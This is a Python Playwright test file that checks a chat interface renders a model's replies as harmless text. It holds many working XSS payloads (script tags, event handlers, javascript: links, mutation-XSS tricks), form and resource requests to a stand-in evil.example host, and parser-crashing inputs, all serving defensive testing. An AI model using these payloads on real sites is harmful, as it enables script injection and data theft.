"""A reply is hostile text: whatever a model writes, the page shows it and nothing else happens.

``Visit`` holds that no dialog opens, no request leaves and the policy has nothing to report.
"""

from __future__ import annotations

from collections.abc import Callable

from playwright.sync_api import expect

from openai_wire import say
from page_visit import ChatPage, Visit
from servers import ServerProcess

EVIL = "https://evil.example"
#: Elements that a reply must never make, wherever it writes them.
FORBIDDEN = (
    "script, style, link, meta, base, iframe, object, embed, form, svg, video, audio, picture, source, template, "
    "textarea, select, button:not(.quiet), input:not([type=checkbox]), [onerror], [onload], [onclick], [style], [id], "
    "[name], [srcdoc], [formaction], [ping], math [href], annotation-xml, maction"
)
HTML = f"""
<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>
<a xlink:href="javascript:alert(4)">x</a></svg>
<style>* {{ background: url({EVIL}/style) }}</style><link rel=stylesheet href={EVIL}/link>
<iframe srcdoc="<script>parent.alert(5)</script>"></iframe><object data={EVIL}/object></object>
<form action={EVIL}/form><input name=key value=secret><button formaction={EVIL}/go>Send</button></form>
<base href={EVIL}/><meta http-equiv=refresh content="0;url={EVIL}/meta"><video src={EVIL}/v autoplay></video>
<div id=page style="position:fixed;inset:0" onclick=alert(6)>over all</div>
<details open ontoggle=alert(7)><summary>s</summary></details>
<math><maction href="javascript:alert(8)">m</maction></math>
<noscript><p title="</noscript><img src=x onerror=alert(9)>"></noscript>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(10)&gt;">
"""
MARKDOWN = f"""
[a](javascript:alert(1)) [b](JaVaScRiPt:alert(2)) [c](data:text/html,<script>alert(3)</script>) [d](vbscript:x)
[e](&#106;avascript:alert(4)) [f](java\tscript:alert(5)) [g](v1/models) [h](//evil.example/x) [i](#/machine)
![p]({EVIL}/pixel.png) ![q](v1/models)
![r](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![s](x"onerror="alert(6))
<javascript:alert(7)> <{EVIL}/auto> [ref] &lt;script&gt;alert(8)&lt;/script&gt;

[ref]: javascript:alert(9) "title"

```html"onmouseover="alert(10)
</code></pre><script>alert(11)</script>
```

| a | <img src=x onerror=alert(12)> |
|---|---|
| `<script>` | [x](javascript:alert(13)) |

$\\href{{javascript:alert(14)}}{{x}}$ $\\htmlData{{onclick=alert(15)}}{{y}}$
$$\\class{{hljs}}{{\\style{{color:red}}{{z}}}}$$ $\\includegraphics{{{EVIL}/t.png}}$
"""
DEEP = {
    "quotes": ">" * 20_000 + " x",
    "lists": "".join("  " * depth + "- x\n" for depth in range(400)),
    "brackets": "[" * 20_000 + "](x)",
    "stars": "*a **b " * 4_000,
    "backticks": "".join("`" * (1 + index % 60) + "a" for index in range(2_000)),
    "tags": "<b>" * 10_000,
    "links": "[a](" * 5_000,
    "table": "|" * 2_000 + "\n" + "|-" * 2_000 + "|\n" + "|x" * 2_000,
    "maths": "$" + "{" * 3_000 + "x" + "}" * 3_000 + "$",
    "macros": "$\\def\\a#1{\\a{#1}\\a{#1}}\\a{x}$",
    "long line": "x" * 30_000,
}


def shown(chat: ChatPage, reply: str) -> str:
    """The text of the reply that the server says is ``reply``; its page has none of the forbidden elements."""
    chat.send(say(reply))
    found = chat.ended()
    assert found.locator(f".markdown :is({FORBIDDEN})").count() == 0
    return found.inner_text()


def test_html_is_text(scripted: ServerProcess, visit: Callable[..., Visit]) -> None:
    chat = visit(scripted.port).open()
    text = shown(chat, f"<think>{HTML}</think>{HTML}")
    for written in ("<script>alert(1)</script>", "onerror=alert(2)", "<iframe", "<form", "over all"):
        assert written in text


def test_links_and_pictures_are_harmless(scripted: ServerProcess, visit: Callable[..., Visit]) -> None:
    chat = visit(scripted.port).open()
    text = shown(chat, MARKDOWN)
    assert "<script>alert(8)</script>" in text
    links = chat.replies.first.locator(".markdown a")
    addresses = [links.nth(index).get_attribute("href") for index in range(links.count())]
    # Those that are left lead to pages of the web, in a tab that can't reach back.
    assert [address for address in addresses if address] == [f"{EVIL}/pixel.png", f"{EVIL}/auto"]
    for link in links.all():
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert link.get_attribute("target") == "_blank"
    # Those without an address do nothing.
    before = chat.page.url
    chat.replies.first.get_by_text("a", exact=True).first.click()
    assert chat.page.url == before
    assert chat.replies.first.locator(".markdown img").count() == 0


def test_pictures_that_a_reply_brings_along_are_shown(scripted: ServerProcess, visit: Callable[..., Visit]) -> None:
    chat = visit(scripted.port).open()
    pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    shown(chat, f"![dot](data:image/png;base64,{pixel})")
    expect(chat.replies.first.get_by_role("img", name="dot")).to_be_visible()


def test_texts_that_parsers_choke_on_are_shown(scripted: ServerProcess, visit: Callable[..., Visit]) -> None:
    """Imported, as texts of this size would take the scripted server its time. The page still takes input."""
    chat = visit(scripted.port).open()
    conversations = [conversation(name, f"{text}\n\nthe end of {name}") for name, text in DEEP.items()]
    chat.take_export({"format": "tailrace-conversations", "version": 1, "conversations": conversations})
    for name in DEEP:
        chat.page.get_by_role("link", name=name, exact=True).click()
        expect(chat.replies.first).to_contain_text(f"the end of {name}")
        chat.field.fill(f"still here after {name}")
        expect(chat.field).to_have_value(f"still here after {name}")


def conversation(title: str, reply: str) -> dict[str, object]:
    """An exported conversation with this reply."""
    fields = {"conversation": "c", "state": "complete"}
    messages = [
        {**fields, "id": "u", "parent": None, "role": "user", "content": "?", "created": 1},
        {**fields, "id": "a", "parent": "u", "role": "assistant", "content": reply, "created": 2},
    ]
    head = {"id": "c", "title": title, "created": 1, "updated": 1, "settings": {}, "leaf": "a"}
    return {"conversation": head, "messages": messages}
